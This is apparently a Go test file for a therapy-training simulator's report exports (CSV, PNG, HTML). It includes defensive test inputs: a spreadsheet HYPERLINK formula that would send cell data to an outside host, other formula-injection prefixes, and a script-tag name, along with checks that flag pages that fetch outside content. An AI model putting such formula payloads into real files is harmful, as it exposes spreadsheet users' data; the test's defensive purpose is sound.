package debrief_test

import (
	"bytes"
	"encoding/csv"
	"image"
	"image/png"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/therasim/therasim/debrief"
	"github.com/therasim/therasim/scenarios/scenariotest"
	"github.com/therasim/therasim/sim"
)

// annotated is a whole course with notes on the run and on a choice, with
// text that needs escaping.
func annotated(t *testing.T) *debrief.Debrief {
	t.Helper()
	sc := scenariotest.Shipped(t)
	data := record(t, sc, "novice", "Ana <script>", 3, -1)
	rec, err := sim.ParseRecording(data)
	if err != nil {
		t.Fatal(err)
	}
	rec.Notes = []sim.Note{{Type: "note", Choice: 0, Text: "Run note: <b>not bold</b>"}, {Type: "note", Choice: 2, Author: "Dr Lee", Text: "Advice before understanding."}}
	d, err := debrief.Build(sc, rec)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// The CSV has the header the README documents, one row per choice and one
// per week, and numbers that parse.
func TestCSV(t *testing.T) {
	d := annotated(t)
	var buf bytes.Buffer
	if err := debrief.WriteCSV(&buf, d); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	readme, err := os.ReadFile("../README.md")
	if err != nil {
		t.Fatal(err)
	}
	// The scenario's variables, if it has any, follow as var_NAME columns.
	header := strings.Join(debrief.CSVHeader, ",")
	n := len(debrief.CSVHeader)
	if len(rows[0]) < n || strings.Join(rows[0][:n], ",") != header {
		t.Fatalf("header %q", rows[0])
	}
	for _, col := range rows[0][n:] {
		if !strings.HasPrefix(col, "var_") {
			t.Fatalf("header %q: column %q after the documented ones is not a variable's", rows[0], col)
		}
	}
	if !strings.Contains(string(readme), header) {
		t.Errorf("the README does not document the header %s", header)
	}
	for _, col := range debrief.CSVHeader {
		if !strings.Contains(string(readme), "`"+col+"`") {
			t.Errorf("the README does not explain column %s", col)
		}
	}
	weeks := 0
	for _, m := range d.Moments {
		if m.Week() < len(m.Changes) {
			weeks++
		}
	}
	if got, want := len(rows)-1, len(d.Moments)+weeks; got != want || weeks == 0 {
		t.Fatalf("%d rows, want %d choices and %d weeks", got, len(d.Moments), weeks)
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	rulesSeen := false
	for i, r := range rows[1:] {
		if r[col["row"]] != strconv.Itoa(i+1) {
			t.Errorf("row %d numbered %s", i+1, r[0])
		}
		switch r[col["kind"]] {
		case "choice":
			if r[col["act"]] == "" || r[col["option"]] == "" || r[col["beat"]] == "" {
				t.Errorf("row %d: a choice without its act: %q", i+1, r)
			}
		case "week":
			if r[col["wai_total"]] == "" {
				t.Errorf("row %d: a week without the WAI: %q", i+1, r)
			}
		default:
			t.Errorf("row %d: kind %q", i+1, r[col["kind"]])
		}
		for _, c := range []string{"bond", "task", "goal", "hope", "alliance", "symptoms_oq45"} {
			x, err := strconv.ParseFloat(r[col[c]], 64)
			if err != nil || x < 0 || (c != "symptoms_oq45" && x > 1) {
				t.Errorf("row %d: %s = %q", i+1, c, r[col[c]])
			}
		}
		rulesSeen = rulesSeen || r[col["rules"]] != ""
	}
	if !rulesSeen {
		t.Error("no row names a rule")
	}
	// The last row is the state the run ends in.
	last := rows[len(rows)-1]
	if got := last[col["bond"]]; got != strconv.FormatFloat(d.Timeline[len(d.Timeline)-1].Bond, 'g', -1, 64) {
		t.Errorf("last bond %s, timeline %v", got, d.Timeline[len(d.Timeline)-1].Bond)
	}
}

// The PNG decodes, has the size asked for and is not one flat colour.
func TestPNG(t *testing.T) {
	d := annotated(t)
	var buf bytes.Buffer
	if err := debrief.WritePNG(&buf, d, 1200, 700); err != nil {
		t.Fatal(err)
	}
	img, err := png.Decode(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if b := img.Bounds(); b.Dx() != 1200 || b.Dy() != 700 {
		t.Fatalf("size %v", b)
	}
	if n := colours(img); n < 10 {
		t.Errorf("only %d colours", n)
	}
	if err := debrief.WritePNG(&buf, d, 10, 10); err == nil {
		t.Error("a 10×10 chart was drawn")
	}
	// A what if draws more than the run alone.
	b, _, err := debrief.WhatIf(d, 3, otherOption(d, 3), scenariotest.Policy(t, "competent"))
	if err != nil {
		t.Fatal(err)
	}
	one, _ := debrief.Image(d, nil, 800, 500)
	two, _ := debrief.Image(d, b, 800, 500)
	if bytes.Equal(one.Pix, two.Pix) {
		t.Error("the what if is not drawn")
	}
}

func otherOption(d *debrief.Debrief, k int) int {
	if d.Moments[k-1].Chosen == 1 {
		return 2
	}
	return 1
}

func colours(img image.Image) int {
	seen := map[[4]uint32]bool{}
	b := img.Bounds()
	for y := b.Min.Y; y < b.Max.Y; y += 3 {
		for x := b.Min.X; x < b.Max.X; x += 3 {
			r, g, bl, a := img.At(x, y).RGBA()
			seen[[4]uint32{r, g, bl, a}] = true
		}
	}
	return len(seen)
}

// The HTML report parses, is balanced, fetches nothing, escapes what the
// recording holds, and holds the chart, every choice and the notes.
func TestHTML(t *testing.T) {
	d := annotated(t)
	var buf bytes.Buffer
	if err := debrief.WriteHTML(&buf, d); err != nil {
		t.Fatal(err)
	}
	page := buf.String()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	// Every element opened is closed, in order (void elements aside).
	void := map[string]bool{"meta": true, "br": true, "img": true, "link": true, "hr": true, "input": true}
	z := html.NewTokenizer(strings.NewReader(page))
	var stack []string
	for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
		name, _ := z.TagName()
		switch n := string(name); tt {
		case html.StartTagToken:
			if !void[n] {
				stack = append(stack, n)
			}
		case html.EndTagToken:
			if len(stack) == 0 || stack[len(stack)-1] != n {
				t.Fatalf("</%s> closes %v", n, stack)
			}
			stack = stack[:len(stack)-1]
		}
	}
	if len(stack) != 0 {
		t.Fatalf("left open: %v", stack)
	}
	counts := selfContained(t, doc, page)
	if counts["svg"]-counts["glyph"] != 1 || counts["polyline"] < 6 {
		t.Errorf("the chart is missing: %d svg besides the grades' glyphs, %d polylines", counts["svg"]-counts["glyph"], counts["polyline"])
	}
	if got := strings.Count(page, `class="moment"`); got != len(d.Moments) {
		t.Errorf("%d choices shown, want %d", got, len(d.Moments))
	}
	for _, want := range []string{"@media print", "Run note: &lt;b&gt;not bold&lt;/b&gt;", "Advice before understanding.", "Dr Lee",
		"Ana &lt;script&gt;", d.Moments[1].Offer().Text[:20], "The client’s side", "The trainee’s side"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page does not have %q", want)
		}
	}
	// The sentences of the rules that fired are shown.
	for _, e := range d.Moments[1].Changes {
		if e.Kind == sim.Change && !strings.Contains(page, html.EscapeString(e.Explain)) {
			t.Errorf("the sentence %q is missing", e.Explain)
		}
	}
}

// TestClassCSVNamesAreText: a trainee names themselves, and the instructor
// opens the class's table in a spreadsheet: a name that would begin a
// formula is written as text, after an apostrophe; any other name as typed.
func TestClassCSVNamesAreText(t *testing.T) {
	sc := scenariotest.Shipped(t)
	for _, tc := range []struct{ trainee, want string }{
		{`=HYPERLINK("http://example.org/?x="&A1,"click")`, `'=HYPERLINK("http://example.org/?x="&A1,"click")`},
		{"+1 555", "'+1 555"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"Ana = Bea", "Ana = Bea"},
		{"Zoë", "Zoë"},
	} {
		d := build(t, sc, record(t, sc, "competent", tc.trainee, 3, 4))
		var buf bytes.Buffer
		if err := debrief.WriteClassCSV(&buf, []*debrief.Debrief{d}, []string{"=run.jsonl"}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := rows[1][1]; got != tc.want {
			t.Errorf("trainee %q is written %q, want %q", tc.trainee, got, tc.want)
		}
		if got := rows[1][0]; got != "'=run.jsonl" {
			t.Errorf("the run's name is written %q", got)
		}
	}
}

// selfContained fails t when the page doc (whose text is page) refers to
// anything outside itself: an element that fetches (script, link, iframe,
// img), an attribute that names an address other than the page's own
// anchors, an address, an @import or a url() anywhere in its text. It
// returns how many elements of each name the page has, and under "glyph"
// how many of its svg elements are the grades' glyphs.
func selfContained(t *testing.T, doc *html.Node, page string) map[string]int {
	t.Helper()
	counts := map[string]int{}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			counts[n.Data]++
			for _, a := range n.Attr {
				switch a.Key {
				case "src", "href", "xlink:href", "action", "srcset", "poster", "data":
					if !strings.HasPrefix(a.Val, "#") {
						t.Errorf("<%s %s=%q> refers outside the page", n.Data, a.Key, a.Val)
					}
				case "class":
					if n.Data == "svg" && a.Val == "glyph" {
						counts["glyph"]++
					}
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	for _, el := range []string{"script", "link", "iframe", "img", "object", "embed", "base", "form"} {
		if counts[el] != 0 {
			t.Errorf("the page has %d <%s>: it must fetch nothing", counts[el], el)
		}
	}
	for _, bad := range []*regexp.Regexp{regexp.MustCompile(`(?i)(https?|ftp|file)://`), regexp.MustCompile(`(?i)@import`), regexp.MustCompile(`(?i)url\(`), regexp.MustCompile(`(?i)@font-face`)} {
		if m := bad.FindString(page); m != "" {
			t.Errorf("the page has %q", m)
		}
	}
	return counts
}
